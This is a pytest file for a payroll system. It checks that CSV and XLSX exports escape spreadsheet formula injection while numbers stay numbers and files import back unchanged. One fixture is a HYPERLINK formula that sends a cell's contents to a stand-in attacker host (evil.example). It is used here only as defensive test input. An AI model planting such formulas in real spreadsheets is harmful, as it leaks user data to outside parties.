"""Every CSV and XLSX the system writes keeps formula-like text as text (OWASP's leading
= + - @ tab and carriage return), in one way: an apostrophe in CSV, a text cell marked as text
in XLSX. Numbers stay numbers, and a file exported here imports back as it was."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from reports import render
from reports.base import Figure, Report, ReportFilter, Table
from tests.payroll.conftest import *  # noqa: F403  (the fixtures the payroll run needs)
from tests.payroll.test_exports import approve, mixed_run  # noqa: F401
from workforce.core import tables
from workforce.core.tables import table_bytes
from workforce.payroll import exports

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULAS = [LINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(text: str, expected: list[str]) -> None:
    cells = csv_cells(text)
    for value in expected:
        assert value not in cells
        assert f"'{value}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def assert_xlsx_safe(content: bytes, expected: list[str]) -> None:
    cells = xlsx_cells(content)
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert texts[value].data_type == "s" and texts[value].quotePrefix  # as written, text


def test_table_files_keep_formulas_as_text_and_numbers_as_numbers():
    frame = pd.DataFrame({"name": FORMULAS, "amount": [-5, 1, 2, 3, 4, 5]})

    text = table_bytes(frame, file_format="csv", sheet_name="x").decode("utf-8-sig")
    assert_csv_safe(text, FORMULAS)
    assert "-5" in csv_cells(text)  # a negative number is not a formula

    content = table_bytes(frame, file_format="xlsx", sheet_name="x")
    assert_xlsx_safe(content, FORMULAS[:-1])  # XML reads a carriage return back as a newline
    assert [c.value for c in xlsx_cells(content) if c.column == 2][1:] == [-5, 1, 2, 3, 4, 5]


def test_an_exported_file_imports_back_as_it_was():
    frame = pd.DataFrame({"prompt": FORMULAS[:4] + ["plain", "'quoted"]})
    for file_format in ("csv", "xlsx"):
        content = table_bytes(frame, file_format=file_format, sheet_name="questions")
        read = tables.table_frame(data=content, name=f"bank.{file_format}", max_rows=100)
        assert read["prompt"].tolist() == FORMULAS[:4] + ["plain", "'quoted"]


def test_report_files_keep_formulas_as_text():
    table = Table(
        key="people",
        title="People",
        frame=pd.DataFrame({"name": [LINK, "@me"], "net": [Decimal("-12.50"), Decimal("3")]}),
        labels={"name": "=Name", "net": "Net"},
    )
    report = Report(
        slug="payroll",
        title="Payroll",
        report_filter=ReportFilter(start=date(2026, 3, 1), end=date(2026, 3, 31)),
        figures=[Figure("who", "+Who", "-bad-"), Figure("net", "Net", Decimal("-1.00"))],
        tables=[table],
    )

    assert_csv_safe(render.table_csv(table), [LINK, "@me", "=Name"])
    assert "-12.50" in csv_cells(render.table_csv(table))
    assert_csv_safe(render.figures_csv(report), ["+Who", "-bad-"])
    assert "-1.00" in csv_cells(render.figures_csv(report))
    content = render.report_xlsx(report)
    assert_xlsx_safe(content, [LINK, "@me", "=Name", "+Who", "-bad-"])
    assert -12.5 in [c.value for c in xlsx_cells(content)]


def test_payroll_files_keep_formulas_as_text(mixed_run, admins):  # noqa: F811
    run = mixed_run["run"]
    user = mixed_run["salaried"].user
    user.first_name, user.last_name = LINK, "@Lee"
    user.save()
    mixed_run["salaried"].bank_account.holder = "+Li Na"
    mixed_run["salaried"].bank_account.save()
    approve(run, admins)
    run.refresh_from_db()

    assert_csv_safe(exports.bank_file(run, "CNY"), ["+Li Na", f"{LINK} @Lee"])
    assert_xlsx_safe(exports.register_xlsx(run), [f"{LINK} @Lee"])
    assert f"'{LINK} @Lee" in csv_cells(exports.comparison_csv(run))


def test_one_sheet_name_rule_for_every_workbook():
    used: set[str] = set()
    assert tables.sheet_name("Pay [March]: a/b?", used) == "Pay  March   a b"
    assert tables.sheet_name("'Quoted'", used) == "Quoted"
    assert tables.sheet_name("x" * 40, used) == "x" * 31
    assert tables.sheet_name("X" * 40, used) == "X" * 29 + " 2"  # the same name, case aside
    assert tables.sheet_name("", used) == "Sheet"
